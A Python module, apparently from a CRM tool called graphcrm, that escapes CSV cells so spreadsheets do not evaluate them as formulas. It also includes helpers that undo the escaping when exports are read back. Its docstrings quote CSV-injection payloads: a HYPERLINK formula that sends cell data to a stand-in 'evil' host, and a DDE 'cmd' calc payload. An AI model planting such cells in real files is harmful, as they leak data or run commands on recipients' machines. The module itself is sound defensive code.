"""CSV cells a spreadsheet will not run: formula-injection escaping (OWASP "CSV Injection").

Marketers open graphcrm's CSV exports in Excel, LibreOffice or Google Sheets.
A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read there as a formula, so an account named
``=HYPERLINK("http://evil/?"&A1)`` would run when the file is opened.  Every
CSV graphcrm writes passes through :func:`escape_frame`: such text cells (and
column names) get a leading single quote, which spreadsheets show as text and
do not evaluate.  Plain numbers (``-2``, ``+1.5e3``) are left alone: a number
is not a formula.  Numeric columns are never touched, and Parquet is written
as is.

Machine consumers that want the raw text set ``GRAPHCRM_CSV_RAW=1`` (or pass
``escape=False`` to the writers); :func:`unescape_cell` undoes the escaping.
"""

from __future__ import annotations

import os
import re

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
RAW_ENV = "GRAPHCRM_CSV_RAW"


def escaping_enabled(escape: bool | None = None) -> bool:
    """``escape`` if given, else on unless ``GRAPHCRM_CSV_RAW`` is set to 1/true/yes."""
    if escape is not None:
        return bool(escape)
    return os.environ.get(RAW_ENV, "").strip().lower() not in ("1", "true", "yes")


def escape_cell(value):
    """Prefix ``'`` to text a spreadsheet would evaluate; anything else unchanged.

    Examples
    --------
    >>> [escape_cell(v) for v in ["=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "-2", "bob", 7]]
    ["'=1+1", "'+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3", '-2', 'bob', 7]
    """
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def _needs_quote(text: str) -> bool:
    """A formula start after any leading quotes, and not a plain number: ``=x`` and ``'=x`` alike (the quote a
    reader strips must be one graphcrm added, or ``'=x`` would come back as ``=x``)."""
    bare = text.lstrip("'")
    return bare.startswith(FORMULA_START) and not _NUMBER.match(bare)


def unescape_cell(value):
    """The text before :func:`escape_cell` (for reading graphcrm's own CSV back).

    Examples
    --------
    >>> unescape_cell("'=1+1"), unescape_cell("'quoted"), unescape_cell("bob")
    ('=1+1', "'quoted", 'bob')
    >>> [unescape_cell(escape_cell(v)) for v in ["'=vip", "=vip", "''@x", "'-2", "'quoted"]]
    ["'=vip", '=vip', "''@x", "'-2", "'quoted"]
    """
    if isinstance(value, str) and len(value) > 1 and value[0] == "'" and _needs_quote(value[1:]):
        return value[1:]
    return value


def escape_frame(frame: pd.DataFrame, escape: bool | None = None) -> pd.DataFrame:
    """``frame`` with its text cells and column names escaped (a copy only where something changes).

    Examples
    --------
    >>> escape_frame(pd.DataFrame({"id": ["=HYPERLINK(1)", "ann"], "score": [-1.5, 2.0]})).values.tolist()
    [["'=HYPERLINK(1)", -1.5], ['ann', 2.0]]
    """
    if not escaping_enabled(escape):
        return frame
    out = frame
    for col in frame.columns:
        series = frame[col]
        if (series.dtype == object or pd.api.types.is_string_dtype(series.dtype)
                or isinstance(series.dtype, pd.CategoricalDtype)):
            values = series.astype(object)
            escaped = values.map(escape_cell)
            if not escaped.equals(values):
                if out is frame:
                    out = frame.copy()
                out[col] = escaped
    names = [escape_cell(str(c)) if isinstance(c, str) else c for c in out.columns]
    if names != list(out.columns):
        out = out.copy() if out is frame else out
        out.columns = names
    return out


def read_csv(path, **kwargs) -> pd.DataFrame:
    """``pandas.read_csv`` with graphcrm's escaping undone in the text cells (for reading exports back).

    Examples
    --------
    >>> import io
    >>> read_csv(io.StringIO("account_id,n\\n'=1+1,2\\nann,3\\n")).account_id.tolist()
    ['=1+1', 'ann']
    """
    frame = pd.read_csv(path, **kwargs)
    for col in frame.columns:
        if frame[col].dtype == object or pd.api.types.is_string_dtype(frame[col].dtype):
            frame[col] = frame[col].map(unescape_cell)
    frame.columns = [unescape_cell(c) if isinstance(c, str) else c for c in frame.columns]
    return frame
